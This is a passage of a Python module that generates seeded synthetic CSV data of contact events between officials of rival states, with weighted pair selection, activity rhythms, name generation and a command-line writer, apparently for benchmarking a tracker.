        full = [i for i in free if shares[i] + left * weights[i] / weight >= caps[i]]
        if not full:
            for i in free:
                shares[i] += left * weights[i] / weight
            break
        for i in full:
            left -= caps[i] - shares[i]
            shares[i] = float(caps[i])
        free = [i for i in free if i not in full]
    parts = [min(int(s), caps[i]) for i, s in enumerate(shares)]
    missing = total - sum(parts)
    order = sorted(range(len(parts)), key=lambda i: (-(shares[i] - parts[i]), i))
    while missing > 0:
        for i in order:
            if missing and parts[i] < caps[i] and weights[i] > 0:
                parts[i] += 1
                missing -= 1
    return parts


#: Kinds of post that deal with each other besides counterparts (who deal with each other most).
_RELATED = {
    frozenset(("defense", "military")),
    frozenset(("foreign", "security")),
    frozenset(("military", "theater")),
}


def _affinity(a: PostSpec, b: PostSpec) -> float:
    """How likely two posts of rival states are to be in touch: counterparts most, related posts next."""
    if a.kind == b.kind:
        return 20.0
    return 4.0 if frozenset((a.kind, b.kind)) in _RELATED else 1.0


def _choose_pairs(rng: random.Random, pairs: int) -> list[tuple[PostSpec, PostSpec, Dyad]]:
    """``pairs`` post pairs of rival states: the anchors first, then counterparts most likely."""
    by_title = {(p.country, p.title): p for p in POSTS}
    dyad_of = {(d.a, d.b): d for d in DYADS}
    candidates = [
        (a, b, d) for d in DYADS for a in POSTS if a.country == d.a for b in POSTS if b.country == d.b
    ]
    if not 1 <= pairs <= len(candidates):
        raise ValueError(f"pairs must be between 1 and {len(candidates)}")
    chosen: list[tuple[PostSpec, PostSpec, Dyad]] = []
    for ca, ta, cb, tb in ANCHORS[:pairs]:
        chosen.append((by_title[ca, ta], by_title[cb, tb], dyad_of[ca, cb]))
    rest = [c for c in candidates if c not in chosen]
    # Weighted sampling without replacement (Efraimidis-Spirakis keys).
    keyed = sorted(rest, key=lambda c: -(rng.random() ** (1.0 / (c[2].weight * _affinity(c[0], c[1])))))
    chosen.extend(keyed[: pairs - len(chosen)])
    return chosen


def _rhythms(rng: random.Random, chosen: list[tuple[PostSpec, PostSpec, Dyad]]) -> list[str]:
    """A rhythm for each pair: crises for tense counterparts, one-off lines for distant ones."""
    n = len(chosen)
    quotas = {name: (max(1, round(share * n)) if n >= 5 else 0) for name, share in RHYTHM_SHARES}
    rhythms = [""] * n
    for i in range(min(n, len(ANCHORS))):
        rhythms[i] = "crisis" if i < 2 else "steady"
        if i < 2:
            quotas["crisis"] -= 1
    others = [i for i in range(n) if not rhythms[i]]
    others.sort(
        key=lambda i: (
            -(chosen[i][2].tension * (1.0 if chosen[i][0].kind == chosen[i][1].kind else 0.6))
            - rng.uniform(0, 3)
        )
    )
    tail = ("one_off", "sporadic", "yearly")
    for name in ("crisis",):
        take, others = others[: max(0, quotas[name])], others[max(0, quotas[name]) :]
        for i in take:
            rhythms[i] = name
    for name in tail:
        count = min(len(others), max(0, quotas[name]))
        take, others = others[len(others) - count :], others[: len(others) - count]
        for i in take:
            rhythms[i] = name
    for i in others:
        rhythms[i] = "steady" if n >= 5 else ("crisis", "steady", "yearly", "sporadic", "one_off")[i % 5]
    return rhythms


def _overlay(segments: list[Segment], start: int, end: int, density: float) -> list[Segment]:
    out: list[Segment] = []
    for s in segments:
        if s.end <= start or s.start >= end:
            out.append(s)
            continue
        density_of = s.weight / (s.end - s.start)
        if s.start < start:
            out.append(Segment(s.start, start, density_of * (start - s.start)))
        lo, hi = max(s.start, start), min(s.end, end)
        out.append(Segment(lo, hi, max(density, density_of) * (hi - lo)))
        if s.end > end:
            out.append(Segment(end, s.end, density_of * (s.end - end)))
    return out


def _timeline(rng: random.Random, rhythm: str, dyad: Dyad) -> list[Segment]:
    """The days of a pair's timeline that have contacts, each segment weighted by its share of them."""
    lo = _offset(dyad.start)
    if rng.random() < 0.35:
        lo += rng.randrange(8 * 365)
    hi = DAYS
    if rng.random() < 0.12:
        hi = min(DAYS, lo + rng.randrange(5 * 365, 20 * 365))
    years = [(s, e) for s, e in zip(_year_starts(), _year_starts()[1:], strict=False) if e > lo and s < hi]
    clipped = [(max(s, lo), min(e, hi)) for s, e in years]
    if rhythm == "one_off":
        day = rng.randrange(lo, hi - 3)
        return [Segment(day, day + rng.randint(1, 3), 1.0)]
    if rhythm == "yearly":
        anchor = rng.randrange(300)
        out = []
        for s, e in clipped:
            if rng.random() < 0.1:
                continue  # a year without the meeting
            start = min(max(s, s + anchor + rng.randint(-20, 20)), e - 1)
            end = min(e, start + rng.randint(2, 6))
            out.append(Segment(start, end, 1.0))
        return out or [Segment(clipped[0][0], clipped[0][0] + 1, 1.0)]
    if rhythm == "sporadic":
        on = rng.random() < 0.4
        out = []
        for s, e in clipped:
            if on:
                out.append(Segment(s, e, rng.lognormvariate(0, 0.6) * (e - s)))
            on = rng.random() < (0.6 if on else 0.2)
        return out or [Segment(clipped[-1][0], clipped[-1][1], 1.0)]
    base = 0.35 if rhythm == "crisis" else 1.0
    out = [Segment(s, e, base * rng.lognormvariate(0, 0.5) * (e - s)) for s, e in clipped]
    if rhythm == "crisis":
        windows = [(_offset(a), _offset(b) + 1) for a, b in dyad.crises if rng.random() < 0.8]
        for _ in range(rng.randint(1, 3)):
            start = rng.randrange(lo, hi - 20)
            windows.append((start, min(hi, start + rng.randint(20, 70))))
        for start, end in windows:
            start, end = max(start, lo), min(end, hi)
            if start < end:
                out = _overlay(out, start, end, 10.0 * rng.lognormvariate(0, 0.3))
    return [s for s in out if s.end > s.start]


def _fold(text: str) -> str:
    """Letters and digits only, without accents, lower case: the form names are compared in."""
    plain = "".join(c for c in unicodedata.normalize("NFKD", text) if not unicodedata.combining(c))
    return " ".join(re.sub(r"[^\w\s]", " ", plain).casefold().split())


def _ratio(a: str, b: str) -> float:
    """The Indel similarity of two strings (0-100): twice their longest common subsequence over their lengths."""
    if not a or not b:
        return 100.0 if a == b else 0.0
    masks: dict[str, int] = {}
    for i, char in enumerate(a):
        masks[char] = masks.get(char, 0) | 1 << i
    full = (1 << len(a)) - 1
    v = full
    for char in b:  # bit-parallel LCS (Hyyrö): the zero bits of v count the common subsequence
        u = v & masks.get(char, 0)
        v = ((v + u) | (v - u)) & full
    common = len(a) - v.bit_count()
    return 200.0 * common / (len(a) + len(b))


def _closeness(a: str, b: str) -> float:
    """How alike two folded names are (0-100), letter by letter or word by word (a token-set ratio)."""
    score = _ratio(a, b)
    ta, tb = set(a.split()), set(b.split())
    if len(ta) < 2 or len(tb) < 2:
        return score
    sect = " ".join(sorted(ta & tb))
    ab, ba = " ".join(sorted(ta - tb)), " ".join(sorted(tb - ta))
    if sect and not (ab and ba):
        return 100.0
    with_ab, with_ba = f"{sect} {ab}".strip(), f"{sect} {ba}".strip()
    score = max(score, _ratio(with_ab, with_ba))
    if sect:
        score = max(score, _ratio(sect, with_ab), _ratio(sect, with_ba))
    return score


#: Names of a country at least this alike (0-100) are not both used (the tracker asks "did you mean" from 85).
ALIKE = 80.0


def _names(rng: random.Random, country: str, count: int, taken: set[str], known: Sequence[str]) -> list[str]:
    """``count`` new names of ``country``'s people, none alike another of the country (nor ``known``).

    Each family name is used once, with given names used once while they last; only once every
    combination is tried are alike names let through (a larger ``officials`` than the name books hold).
    """
    book = NAME_BOOKS[country]
    family = list(book.family)
    given = list(book.given)
    rng.shuffle(family)
    rng.shuffle(given)
    weights = [s.weight for s in book.scripts]
    folded = [_fold(name) for name in known]
    out: list[str] = []
    i, tries = 0, len(family) * len(given)
    while len(out) < count:
        f = family[i % len(family)]
        g = given[(i % len(family) + i // len(family)) % len(given)]
        i += 1
        script = rng.choices(book.scripts, weights)[0]
        first, second = (f, g) if script.family_first else (g, f)
        name = first[script.spelling] + script.separator + second[script.spelling]
        key = _fold(name)
        if name.casefold() in taken or (i <= tries and any(_closeness(key, k) >= ALIKE for k in folded)):
            continue
        taken.add(name.casefold())
        folded.append(key)
        out.append(name)
    return out


def _tenure_starts(rng: random.Random, start: int, end: int, count: int) -> list[int]:
    """The first days of ``count`` tenures filling days ``start`` to ``end``, of varied lengths."""
    if count <= 0:
        return []
    lengths = [rng.gammavariate(2.0, 1.0) for _ in range(count)]
    scale = (end - start) / sum(lengths)
    starts: list[int] = []
    at = float(start)
    for length in lengths:
        starts.append(int(at))
        at += length * scale
    return starts


def _holders(
    rng: random.Random, posts: list[PostSpec], activity: dict[PostSpec, float], officials: int
) -> dict[PostSpec, Holders]:
    """Holders for each post, ``officials`` in all (at least one a post), with the pinned ones."""
    pinned = {p: PINNED[p.country, p.title] for p in posts if (p.country, p.title) in PINNED}
    least = [2 if p in pinned else 1 for p in posts]
    spare = max(0, officials - sum(least))
    extra = apportion(spare, [p.turnover * math.sqrt(activity[p]) for p in posts], [spare] * len(posts))
    counts = [a + b for a, b in zip(least, extra, strict=True)]
    taken = {name.casefold() for name, _, _ in PINNED.values()}
    by_country: dict[str, list[str]] = {}
    for country in COUNTRIES:
        needed = sum(c - (p in pinned) for p, c in zip(posts, counts, strict=True) if p.country == country)
        known = [name for (c, _), (name, _, _) in PINNED.items() if c == country]
        by_country[country] = _names(rng, country, needed, taken, known)
    out: dict[PostSpec, Holders] = {}
    for post, count in zip(posts, counts, strict=True):
        names = by_country[post.country]
        if post in pinned:
            name, first, last = pinned[post]
            s, e = _offset(first), min(DAYS, _offset(last) + 1)
            free = count - 1
            before = free if e >= DAYS else max(1, round(free * s / (s + DAYS - e)))
            after = free - before
            starts = _tenure_starts(rng, 0, s, before) + [s] + _tenure_starts(rng, e, DAYS, after)
            chosen = names[:before] + [name] + names[before:free]
            del names[:free]
        else:
            starts = _tenure_starts(rng, 0, DAYS, count)
            chosen = names[:count]
            del names[:count]
        starts[0] = 0
        out[post] = Holders(tuple(starts), tuple(chosen))
    return out


def _pool(dyad: Dyad) -> tuple[str, ...]:
    """The ordinary summaries of a dyad's contacts: about a sixth in the two sides' own languages."""
    english = [t.format(topic=topic) for t in TEMPLATES for topic in dyad.topics]
    foreign = [*FOREIGN_SUMMARIES.get(dyad.a, ()), *FOREIGN_SUMMARIES.get(dyad.b, ())]
    repeat = max(1, len(english) // (5 * max(1, len(foreign))))
    return tuple(english + foreign * repeat)


def build_world(seed: int = DEFAULT_SEED, *, n_events: int, officials: int = 200, pairs: int = 60) -> World:
    """The posts, holders, pairs, rhythms and per-segment counts that ``generate`` draws from."""
    if n_events < 0:
        raise ValueError("n_events must not be negative")
    if officials < 1:
        raise ValueError("officials must be at least 1")
    rng = random.Random(seed)
    chosen = _choose_pairs(rng, pairs)
    rhythms = _rhythms(rng, chosen)
    timelines = [_timeline(rng, r, d) for (_, _, d), r in zip(chosen, rhythms, strict=True)]
    caps = [sum((s.end - s.start) * SLOTS_PER_DAY for s in t) for t in timelines]
    # One-off lines have one or two contacts whatever the size; the rest share the rows by rhythm.
    fixed = [
        min(rng.choice((1, 1, 2)), c) if r == "one_off" else 0 for r, c in zip(rhythms, caps, strict=True)
    ]
    if sum(fixed) > n_events // 50:
        fixed = [0] * len(fixed)
    rest = n_events - sum(fixed)
    weights = [
        0.0 if r == "one_off" and fixed[i] else RHYTHM_WEIGHTS.get(r, 1.0) * rng.lognormvariate(0, 0.3)
        for i, r in enumerate(rhythms)
    ]
    open_caps = [0 if w == 0 else c for w, c in zip(weights, caps, strict=True)]
    if rest > sum(open_caps):
        raise ValueError(
            f"{n_events:,} events do not fit these {pairs} pairs: at most {sum(open_caps) + sum(fixed):,} "
            f"({SLOTS_PER_DAY} a pair a day); ask for more pairs"
        )
    floor = [1 if rest >= len(chosen) and c else 0 for c in open_caps]
    totals = apportion(rest - sum(floor), weights, [c - f for c, f in zip(open_caps, floor, strict=True)])
    totals = [t + f + x for t, f, x in zip(totals, floor, fixed, strict=True)]
    streams = []
    for i, ((a, b, dyad), rhythm, timeline, total) in enumerate(
        zip(chosen, rhythms, timelines, totals, strict=True)
    ):
        counts = apportion(
            total, [s.weight for s in timeline], [(s.end - s.start) * SLOTS_PER_DAY for s in timeline]
        )
        streams.append(Stream(i, a, b, dyad, rhythm, timeline, counts, total, rng.getrandbits(64)))
    posts = sorted({p for a, b, _ in chosen for p in (a, b)}, key=POSTS.index)
    activity = dict.fromkeys(posts, 0.0)
    for s, w in zip(streams, weights, strict=True):
        activity[s.post_a] += w or 0.05
        activity[s.post_b] += w or 0.05
    holders = _holders(rng, posts, activity, officials)
    pools = {d: _pool(d) for d in DYADS}
    return World(tuple(streams), holders, pools)


#: (channel, status) combinations as ``channel * 4 + status``, repeated by weight, per era.
_COMBOS_EARLY = tuple(
    c * 4 + s
    for c, cw in enumerate(CHANNEL_WEIGHTS_EARLY)
    for s, sw in enumerate(STATUS_WEIGHTS)
    for _ in range(cw * sw)
)
_COMBOS_LATE = tuple(
    c * 4 + s
    for c, cw in enumerate(CHANNEL_WEIGHTS_LATE)
    for s, sw in enumerate(STATUS_WEIGHTS)
    for _ in range(cw * sw)
)
#: Channel indexes repeated by weight, per era.
_CHANNELS_EARLY = tuple(c for c, w in enumerate(CHANNEL_WEIGHTS_EARLY) for _ in range(w))
_CHANNELS_LATE = tuple(c for c, w in enumerate(CHANNEL_WEIGHTS_LATE) for _ in range(w))
_PRECISION_TABLE = tuple(p for p, w in zip(PRECISIONS, PRECISION_WEIGHTS, strict=True) for _ in range(w))


def _free_combo(used: int, status: int, channels: Sequence[int], rand: Callable[[], float]) -> int:
    """A channel-status combination not yet ``used`` on the day: the same status on another channel if possible."""
    for _ in range(4):
        combo = channels[int(rand() * len(channels))] * 4 + status
        if not used >> combo & 1:
            return combo
    for combo in [c * 4 + status for c in range(len(CHANNELS))] + list(range(len(CHANNELS) * 4)):
        if not used >> combo & 1:
            return combo
    raise AssertionError("more contacts on a day than combinations")  # SLOTS_PER_DAY < 24


def _stream_rows(stream: Stream, world: World) -> Iterator[tuple[int, int, int, list[str]]]:
    """The rows of one pair in date order, as (day, pair, sequence, row) for merging."""
    rng = random.Random(stream.seed)
    rand = rng.random
    iso = iso_days()
    last = DAYS - 1
    ha, hb = world.holders[stream.post_a], world.holders[stream.post_b]
    starts_a, names_a, starts_b, names_b = ha.starts, ha.names, hb.starts, hb.names
    ia = ib = 0
    role_a, country_a = stream.post_a.title, stream.post_a.country
    role_b, country_b = stream.post_b.title, stream.post_b.country
    pool = world.pools[stream.dyad]
    n_pool = len(pool)
    publishers = PUBLISHERS[country_a] + PUBLISHERS[country_b]
    n_pub = len(publishers)
    precisions, n_prec = _PRECISION_TABLE, len(_PRECISION_TABLE)
    delays, n_delays = SOURCE_DELAYS, len(SOURCE_DELAYS)
    current, used, seq = -1, 0, 0
    for segment, k in zip(stream.segments, stream.counts, strict=True):
        if not k:
            continue
        span = (segment.end - segment.start) * SLOTS_PER_DAY - k + 1
        u = 0.0
        for i in range(k):
            # The i-th of k sorted uniform draws, then a distinct slot (of SLOTS_PER_DAY a day) for it.
            u += (1.0 - u) * (1.0 - rand() ** (1.0 / (k - i)))
            j = int(u * span)
            if j >= span:
                j = span - 1
            day = segment.start + (j + i) // SLOTS_PER_DAY
            if day != current:
                current, used = day, 0
            while ia + 1 < len(starts_a) and starts_a[ia + 1] <= day:
                ia += 1
            while ib + 1 < len(starts_b) and starts_b[ib + 1] <= day:
                ib += 1
            combos, channels = (
                (_COMBOS_LATE, _CHANNELS_LATE) if day >= VIDEO_ERA else (_COMBOS_EARLY, _CHANNELS_EARLY)
            )
            combo = combos[int(rand() * len(combos))]
            if used >> combo & 1:
                combo = _free_combo(used, combo & 3, channels, rand)
            used |= 1 << combo
            status = combo & 3
            a, b = names_a[ia], names_b[ib]
            if rand() < 0.5:
                first, second = (a, role_a, country_a), (b, role_b, country_b)
            else:
                first, second = (b, role_b, country_b), (a, role_a, country_a)
            r = rand()
            if status in (1, 2):  # attempts and refusals: someone asked
                initiated = first[0] if r < 0.45 else second[0] if r < 0.85 else ""
            else:
                initiated = first[0] if r < 0.2 else second[0] if r < 0.4 else ""
            end = ""
            if rand() < SPAN_SHARE and day < last:
                end = iso[min(last, day + 1 + int(rand() * 5))]
            r = rand()
            if r < FORMULA_SUMMARY_SHARE:
                summary = FORMULA_SUMMARIES[int(rand() * len(FORMULA_SUMMARIES))]
            elif r < FORMULA_SUMMARY_SHARE + LONG_SUMMARY_SHARE:
                summary = LONG_SUMMARIES[int(rand() * len(LONG_SUMMARIES))]
            elif r < FORMULA_SUMMARY_SHARE + LONG_SUMMARY_SHARE + NO_SUMMARY_SHARE:
                summary = ""
            else:
                summary = pool[int(rand() * n_pool)]
            r = rand()
            if r < 0.93:
                publisher, base = publishers[int(rand() * n_pub)]
                url = base + str(1_000_000 + int(rand() * 90_000_000)) if r < 0.88 else ""
                if rand() < FORMULA_PUBLISHER_SHARE / 0.93:
                    publisher = FORMULA_PUBLISHERS[int(rand() * len(FORMULA_PUBLISHERS))]
                source_date = iso[min(last, day + delays[int(rand() * n_delays)])] if rand() < 0.9 else ""
            else:
                publisher = url = source_date = ""
            yield (
                day,
                stream.index,
                seq,
                [
                    "",
                    iso[day],
                    end,
                    precisions[int(rand() * n_prec)],
                    first[0],
                    first[1],
                    first[2],
                    second[0],
                    second[1],
                    second[2],
                    CHANNELS[combo >> 2],
                    STATUSES[status],
                    initiated,
                    summary,
                    url,
                    publisher,
                    source_date,
                ],
            )
            seq += 1


def generate(
    n_events: int, *, seed: int = DEFAULT_SEED, officials: int = 200, pairs: int = 60
) -> Iterator[list[str]]:
    """``n_events`` rows of the CSV contract (``id`` empty), sorted by date, the same for the same arguments.

    The world is built at once (so bad arguments raise here); rows are made as they are read.
    """
    world = build_world(seed, n_events=n_events, officials=officials, pairs=pairs)
    merged = heapq.merge(*(_stream_rows(s, world) for s in world.streams if s.total))
    return map(itemgetter(3), merged)


def write_csv(path: str | Path, n_events: int, *, seed: int = DEFAULT_SEED, **kw: int) -> int:
    """Write the header and ``generate(n_events, seed=seed, **kw)`` to ``path`` (UTF-8, CRLF); the rows written."""
    rows = generate(n_events, seed=seed, **kw)
    with open(path, "w", newline="", encoding="utf-8", buffering=1 << 20) as out:
        writer = csv.writer(out)
        writer.writerow(COLUMNS)
        writer.writerows(rows)
    return n_events


def main(argv: Sequence[str] | None = None) -> int:
    """``python -m benchmarks.synthetic N OUT.csv [--seed S] [--officials K] [--pairs P]``."""
    parser = argparse.ArgumentParser(
        prog="python -m benchmarks.synthetic",
        description="Write seeded synthetic contact events (the CSV contract) to a file.",
    )
    parser.add_argument("n_events", type=int, help="how many rows")
    parser.add_argument("out", type=Path, help="the CSV file to write")
    parser.add_argument("--seed", type=int, default=DEFAULT_SEED)
    parser.add_argument("--officials", type=int, default=200)
    parser.add_argument("--pairs", type=int, default=60)
    args = parser.parse_args(argv)
    started = time.perf_counter()
    try:
        count = write_csv(args.out, args.n_events, seed=args.seed, officials=args.officials, pairs=args.pairs)
    except ValueError as exc:
        parser.error(str(exc))  # exits
    sys.stdout.write(f"wrote {count:,} rows to {args.out} in {time.perf_counter() - started:.2f} s\n")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
